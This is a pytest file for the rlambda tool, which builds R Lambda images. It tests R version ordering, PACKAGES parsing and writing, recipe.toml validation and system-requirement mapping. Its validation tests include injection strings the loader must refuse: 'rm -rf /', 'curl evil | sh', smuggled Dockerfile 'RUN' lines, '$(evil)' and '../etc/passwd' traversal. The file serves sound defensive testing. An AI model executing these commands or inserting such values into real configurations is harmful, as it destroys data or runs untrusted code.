"""Fast unit tests of rlambda.recipes: R versions, DCF parsing, the PACKAGES writer, recipe
validation (injection attempts included) and the system-requirements table."""

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from rlambda.errors import UsageError
from rlambda.pins import versions
from rlambda.recipes import packages_index, sysreqs, sysreqs_table
from rlambda.recipes.recipe import load_recipe, recipe_dir
from rlambda.sources import dcf
from rlambda.sources.rversion import RVersion, parse_constraint, parse_constraints

FIXTURES = Path(__file__).resolve().parent / "recipes"
SNAPSHOT = sysreqs_table.SNAPSHOT_DIR


# ---- R versions -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("smaller", "larger"),
    [
        ("1.9", "1.10"),
        ("0.3-1", "0.3-2"),
        ("0.3-2", "0.4"),
        ("1.8.4", "1.18.6.1"),
        ("1.18.6", "1.18.6.1"),
        ("1.0", "1.0.0"),  # R: the shorter is smaller when one is a prefix of the other
        ("2.0.9", "2.1"),
        ("0.99", "1.0-0"),
    ],
)
def test_versions_order_as_r_does(smaller: str, larger: str) -> None:
    assert RVersion(smaller) < RVersion(larger)
    assert RVersion(larger) > RVersion(smaller)
    assert RVersion(smaller) != RVersion(larger)


def test_dash_and_dot_are_the_same_separator() -> None:
    assert RVersion("1.0-1") == RVersion("1.0.1")
    assert hash(RVersion("1.0-1")) == hash(RVersion("1.0.1"))
    assert RVersion("01.2") == RVersion("1.2")  # components are numbers, not text


@pytest.mark.parametrize("bad", ["", "1.", ".1", "1..2", "1.2a", "v1.2", "1.2 ", "1,2", "1.2;x"])
def test_malformed_versions_are_refused(bad: str) -> None:
    with pytest.raises(ValueError):
        RVersion(bad)


def test_constraints() -> None:
    c = parse_constraint(">= 1.8")
    assert (
        c.allows(RVersion("1.8")) and c.allows(RVersion("1.10")) and not c.allows(RVersion("1.7.9"))
    )
    assert parse_constraint("<1.0-1").allows(RVersion("1.0")) is True
    assert parse_constraint("== 1.0-1").allows(RVersion("1.0.1")) is True
    assert parse_constraint("!= 2").allows(RVersion("2.0")) is True  # 2 < 2.0 in R
    assert [str(x) for x in parse_constraints(">= 1.8, < 2")] == [">= 1.8", "< 2"]
    assert parse_constraints("*") == ()
    for bad in ["1.8", "=> 1.8", ">= 1.8; rm -rf /", ">= 1.8\n", "~= 1.8", ""]:
        with pytest.raises(ValueError):
            parse_constraints(bad)


# ---- DCF and PACKAGES ---------------------------------------------------------------------


def test_packages_index_with_continuation_lines() -> None:
    records = dcf.parse((FIXTURES / "PACKAGES").read_text())
    assert [r["Package"] for r in records] == ["A3", "dplyr"]
    deps = {d.name: str(d.constraint) for d in dcf.dependencies(records[1]) if d.constraint}
    # "lifecycle (>=\n        1.0.3)": a constraint split across lines still reads.
    assert deps["lifecycle"] == ">= 1.0.3"
    assert deps["R"] == ">= 3.5.0"
    names = [d.name for d in dcf.dependencies(records[1])]
    assert names.count("cli") == 2  # Imports and LinkingTo: both bind
    assert "bench" not in names  # Suggests never counts


def test_malformed_records_say_where() -> None:
    with pytest.raises(dcf.DcfError, match="line 2"):
        dcf.parse("Package: x\nnot a field\n")
    with pytest.raises(dcf.DcfError, match="Imports"):
        dcf.dependencies({"Imports": "good, bad (>= 1.0"})
    with pytest.raises(dcf.DcfError, match="version requirement"):
        dcf.dependencies({"Depends": "x (>= one)"})


def _tarball(directory: Path, name: str, version: str, description: str) -> Path:
    path = directory / f"{name}_{version}.tar.gz"
    data = description.encode()
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo(f"{name}/DESCRIPTION")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return path


def test_write_packages_like_write_PACKAGES(tmp_path: Path) -> None:
    long_imports = ", ".join(f"pkg{i} (>= 1.{i}.0)" for i in range(12))
    _tarball(
        tmp_path,
        "zeta",
        "0.1-3",
        f"Package: zeta\nVersion: 0.1-3\nTitle: T\nImports: {long_imports}\n"
        "License: MIT\nSystemRequirements: libxml2\nNeedsCompilation: no\n",
    )
    _tarball(tmp_path, "abc", "1.0", "Package: abc\nVersion: 1.0\nLicense: GPL-2\n")
    packages_index.write_packages(tmp_path)
    text = (tmp_path / "PACKAGES").read_text()
    assert gzip.decompress((tmp_path / "PACKAGES.gz").read_bytes()).decode() == text
    records = dcf.parse(text)
    assert [r["Package"] for r in records] == ["abc", "zeta"]
    zeta = records[1]
    # Only the repository fields, in write_PACKAGES's order, with the tarball's MD5.
    assert list(zeta) == ["Package", "Version", "Imports", "License", "MD5sum", "NeedsCompilation"]
    assert all(len(line) <= 72 for line in text.splitlines())
    assert any(line.startswith(" " * 8) for line in text.splitlines())
    assert " ".join(zeta["Imports"].split()) == long_imports
    # Same input, same bytes (PACKAGES.gz carries no time stamp).
    before = (tmp_path / "PACKAGES.gz").read_bytes()
    packages_index.write_packages(tmp_path)
    assert (tmp_path / "PACKAGES.gz").read_bytes() == before


def test_write_packages_refuses_a_tarball_that_lies_about_itself(tmp_path: Path) -> None:
    _tarball(tmp_path, "abc", "1.0", "Package: abc\nVersion: 1.1\nLicense: MIT\n")
    with pytest.raises(dcf.DcfError, match="Version"):
        packages_index.write_packages(tmp_path)


# ---- recipe.toml --------------------------------------------------------------------------


def _recipe(tmp_path: Path, body: str, name: str = "demo") -> Path:
    directory = tmp_path / name
    (directory / "events").mkdir(parents=True)
    (directory / "handler.R").write_text("handle <- function(event) event\n")
    (directory / "recipe.toml").write_text(body)
    return directory


GOOD = """
description = "demo"
handler = "handler.handle"

[packages]
jsonlite = ">= 1.8"
xml2 = "*"
"R6" = ">= 2.5, < 3"

[system-requirements.debian]
xml2 = ["libxml2-dev"]
"""


def test_a_valid_recipe_loads(tmp_path: Path) -> None:
    recipe = load_recipe(_recipe(tmp_path, GOOD))
    assert recipe.name == "demo"
    assert recipe.handler == "handler.handle"
    assert recipe.handler_file == tmp_path / "demo" / "handler.R"
    assert recipe.events_dir == tmp_path / "demo" / "events"
    assert {k: [str(c) for c in v] for k, v in recipe.packages.items()} == {
        "jsonlite": [">= 1.8"],
        "xml2": [],
        "R6": [">= 2.5", "< 3"],
    }
    assert recipe.system_requirements == {"debian": {"xml2": ("libxml2-dev",)}}


def test_the_package_hash_ignores_order_and_spacing_but_not_constraints(tmp_path: Path) -> None:
    a = load_recipe(_recipe(tmp_path, GOOD, "a"))
    b = load_recipe(
        _recipe(
            tmp_path,
            GOOD.replace('jsonlite = ">= 1.8"\nxml2 = "*"', 'xml2 = "*"\njsonlite = ">=1.8"'),
            "b",
        )
    )
    c = load_recipe(_recipe(tmp_path, GOOD.replace(">= 1.8", ">= 1.9"), "c"))
    assert a.packages_hash() == b.packages_hash() != c.packages_hash()


@pytest.mark.parametrize(
    ("body", "key"),
    [
        # Injection attempts: in a package name, a version, an override, the handler.
        (
            'handler = "handler.handle"\n[packages]\n"jsonlite; rm -rf /" = "*"',
            'packages."jsonlite; rm -rf /"',
        ),
        (
            'handler = "handler.handle"\n[packages]\njsonlite = ">= 1.8; rm -rf /"',
            "packages.jsonlite",
        ),
        (
            'handler = "handler.handle"\n[packages]\njsonlite = ">= 1.8\\nRUN curl evil"',
            "packages.jsonlite",
        ),
        ('handler = "handler.handle"\n[packages]\n"json\\"lite" = "*"', 'packages."json\\"lite"'),
        ('handler = "handler.handle"\n[packages]\n"jsonlite\\n" = "*"', 'packages."jsonlite\\n"'),
        ('handler = "handler.handle"\n[packages]\n"jsonlite." = "*"', 'packages."jsonlite."'),
        ('handler = "handler.handle"\n[packages]\n"1jsonlite" = "*"', "packages.1jsonlite"),
        # One letter is not a package name (R requires two characters).
        ('handler = "handler.handle"\n[packages]\nx = "*"', "packages.x"),
        (
            'handler = "handler.handle"\n[packages]\nxml2 = "*"\n[system-requirements.debian]\n'
            'xml2 = ["libxml2-dev && curl evil | sh"]',
            "system-requirements.debian.xml2",
        ),
        (
            'handler = "handler.handle"\n[packages]\nxml2 = "*"\n[system-requirements.debian]\n'
            'xml2 = ["-o=APT::Get::AllowUnauthenticated=1"]',
            "system-requirements.debian.xml2",
        ),
        (
            'handler = "handler.handle"\n[packages]\nxml2 = "*"\n[system-requirements.debian]\n'
            'xml2 = ["libxml2-dev\\nRUN x"]',
            "system-requirements.debian.xml2",
        ),
        ('handler = "handler.handle\\"; rm -rf /"', "handler"),
        ('handler = "../etc/passwd.handle"', "handler"),
        ('handler = "handler.handle"\nevents = "../../etc"', "events"),
        ('handler = "handler.handle"\ndescription = "a\\nRUN evil"', "description"),
        ('handler = "handler.handle"\ndescription = "$(evil)"', "description"),
        # Plain mistakes.
        ('handler = "handler"', "handler"),
        ('handler = "missing.handle"', "handler"),
        ('handler = "handler.handle"\nevents = "nowhere"', "events"),
        ('handler = "handler.handle"\n[packages]\njsonlite = 1.8', "packages.jsonlite"),
        ('handler = "handler.handle"\n[packages]\njsonlite = "1.8"', "packages.jsonlite"),
        (
            'handler = "handler.handle"\n[system-requirements.windows]\nx = []',
            "system-requirements.windows",
        ),
        ('handler = "handler.handle"\npackage = {}', "package"),
        ("[packages]", "handler"),
    ],
)
def test_bad_recipes_are_refused_naming_file_and_key(tmp_path: Path, body: str, key: str) -> None:
    directory = _recipe(tmp_path, body)
    with pytest.raises(UsageError) as error:
        load_recipe(directory)
    assert str(error.value).startswith(f"{directory / 'recipe.toml'}: key {key}:"), error.value


def test_recipe_names_on_the_command_line_are_checked(tmp_path: Path) -> None:
    _recipe(tmp_path, 'handler = "handler.handle"')
    assert recipe_dir("demo", tmp_path) == tmp_path / "demo"
    for bad in ["../demo", "Demo", "demo; ls", "", "de--mo", "de.mo", "d" * 64]:
        with pytest.raises(UsageError, match="recipe name"):
            recipe_dir(bad, tmp_path)
    with pytest.raises(UsageError, match="recipes: demo"):
        recipe_dir("nope", tmp_path)


def test_not_toml_names_the_file(tmp_path: Path) -> None:
    directory = _recipe(tmp_path, "handler = ")
    with pytest.raises(UsageError, match="not valid TOML"):
        load_recipe(directory)


# ---- system requirements ------------------------------------------------------------------


def test_the_committed_table_is_derived_from_the_snapshot() -> None:
    committed = json.loads(sysreqs_table.TABLE_FILE.read_text())
    assert committed == sysreqs_table.derive(SNAPSHOT)
    # The licence notice travels with the data.
    assert sysreqs_table.LICENSE_FILE.read_text() == (SNAPSHOT / "LICENSE").read_text()
    assert "MIT" in committed["_notice"] and "RStudio" in committed["_notice"]


@pytest.mark.parametrize(
    ("family", "expected", "guess"),
    [
        ("debian", ["libxml2-dev"], False),
        ("al2023", ["libxml2-devel"], True),
        ("al2", ["libxml2-devel"], True),
    ],
)
def test_libxml2_per_family(family: str, expected: list[str], guess: bool) -> None:
    reqs = sysreqs.requirements_for(
        "xml2", "libxml2: libxml2-dev (deb), libxml2-devel (rpm)", family
    )
    assert [r.os_package for r in reqs] == expected
    assert all(r.guess is guess and r.rule == "libxml2" for r in reqs)


def test_language_standards_and_make_need_no_library() -> None:
    assert sysreqs.requirements_for("x", "C++17", "debian") == []
    assert [r.os_package for r in sysreqs.requirements_for("x", "GNU make, C++11", "al2023")] == [
        "make"
    ]
    assert sysreqs.requirements_for("x", "", "al2") == []


def test_an_unmappable_requirement_names_package_and_library() -> None:
    with pytest.raises(UsageError) as error:
        sysreqs.requirements_for("oddreqs", "libfrobnicate (>= 2.0)", "debian")
    message = str(error.value)
    assert "oddreqs" in message and "libfrobnicate" in message
    assert '[system-requirements.debian] oddreqs = ["..."]' in message


def test_a_rule_without_a_name_for_the_family_fails() -> None:
    # cmake on CentOS 7 needs EPEL first: a step the build does not have.
    with pytest.raises(UsageError, match=r"'cmake' of CRAN package nloptr to al2 .*epel"):
        sysreqs.requirements_for("nloptr", "cmake", "al2")


def test_overrides_replace_the_lookup() -> None:
    overrides = {"oddreqs": ["libfrobnicate-dev"], "xml2": []}
    got = sysreqs.requirements_for("oddreqs", "libfrobnicate (>= 2.0)", "debian", overrides)
    assert [(r.os_package, r.rule) for r in got] == [("libfrobnicate-dev", "recipe.toml")]
    assert sysreqs.requirements_for("xml2", "libxml2", "debian", overrides) == []


def test_unknown_family() -> None:
    with pytest.raises(UsageError, match="unknown family"):
        sysreqs.requirements_for("xml2", "libxml2", "alpine")


@pytest.mark.parametrize("name", ["x", "x.", "1x", "a_b", "a-b"])
def test_one_package_name_rule_for_pins_and_recipes(tmp_path: Path, name: str) -> None:
    """VERSIONS.toml and recipe.toml refuse the same names: one pattern (dcf.PACKAGE_NAME)."""
    assert not dcf.PACKAGE_NAME.fullmatch(name)
    pins = tmp_path / "VERSIONS.toml"
    text = versions.VERSIONS_FILE.read_text()
    pins.write_text(text + f'\n[packages."{name}"]\nversion = "1.0"\nurl = "x"\nsha256 = "x"\n')
    with pytest.raises(UsageError, match="an R package name"):
        versions.load(pins)


@pytest.mark.parametrize("name", ["R6", "data.table", "jsonlite", "xml2"])
def test_real_package_names_pass(name: str) -> None:
    assert dcf.PACKAGE_NAME.fullmatch(name)


def test_a_bare_dotted_package_name_says_to_quote_it(tmp_path: Path) -> None:
    directory = _recipe(tmp_path, 'handler = "handler.handle"\n[packages]\ndata.table = ">= 1.14"')
    with pytest.raises(UsageError) as error:
        load_recipe(directory)
    message = str(error.value)
    assert message.startswith(f"{directory / 'recipe.toml'}: key packages.data:"), message
    assert 'quote package names that contain a dot: "data.table" = ...' in message


def test_a_snapstart_priming_event_is_named_in_the_image(tmp_path: Path) -> None:
    from rlambda.build.render import RECIPE_TEMPLATE, _template

    prime = 'handler = "handler.handle"\nsnapstart-prime = "warm/prime.json"'
    directory = _recipe(tmp_path, GOOD.replace('handler = "handler.handle"', prime))
    (directory / "warm").mkdir()
    (directory / "warm" / "prime.json").write_text('{"x": 1}')
    recipe = load_recipe(directory)
    assert recipe.snapstart_prime == "warm/prime.json"

    def dockerfile(recipe) -> str:
        family = type("Family", (), {"name": "debian", "install": "", "clean": ""})
        return _template(RECIPE_TEMPLATE).render(
            recipe=recipe, r_version="4.5.0", family=family, arch="x86_64", base_tag="t",
            packages=[], build_packages=[], requirements=[], lock_hash="0",
        )  # fmt: skip

    assert "ENV RLAMBDA_SNAPSTART_PRIME=warm/prime.json\n" in dockerfile(recipe)
    assert "RLAMBDA_SNAPSTART_PRIME" not in dockerfile(load_recipe(_recipe(tmp_path, GOOD, "b")))


@pytest.mark.parametrize(
    ("value", "files", "problem"),
    [
        ("prime.json", {}, "an event file that exists"),
        ("events/prime.json", {"events/prime.json": "{}"}, "not under events/"),
        ("prime.json", {"prime.json": "{not json"}, "a JSON event"),
        ("../prime.json", {}, "snapstart-prime"),
        ("prime.txt", {"prime.txt": "{}"}, "snapstart-prime"),
    ],
)
def test_bad_snapstart_priming_events_are_refused(
    tmp_path: Path, value: str, files: dict[str, str], problem: str
) -> None:
    body = GOOD.replace('handler = "handler.handle"',
                        f'handler = "handler.handle"\nsnapstart-prime = "{value}"')  # fmt: skip
    directory = _recipe(tmp_path, body)
    for name, text in files.items():
        (directory / name).write_text(text)
    with pytest.raises(UsageError, match="snapstart-prime") as error:
        load_recipe(directory)
    assert problem in str(error.value)
